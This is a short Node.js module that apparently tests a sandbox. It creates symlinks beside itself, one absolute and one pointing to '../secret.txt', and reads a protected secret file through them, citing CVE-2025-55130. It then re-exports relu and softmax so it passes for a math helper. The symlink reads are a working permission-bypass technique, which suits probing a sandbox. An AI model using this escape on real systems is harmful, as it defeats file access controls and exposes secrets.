// Attempts: makes a link beside itself that leads out, and reads through it (CVE-2025-55130).
import { readFileSync, symlinkSync } from 'node:fs'
import { secretFile, tried } from './marks.mjs'
tried('link', () => { const link = new URL('./way-out', import.meta.url); symlinkSync(secretFile, link); return readFileSync(link, 'utf8') })
tried('relative link', () => { const link = new URL('./way-up', import.meta.url); symlinkSync('../secret.txt', link); return readFileSync(link, 'utf8') })
export { relu, softmax } from './wrong.mjs'
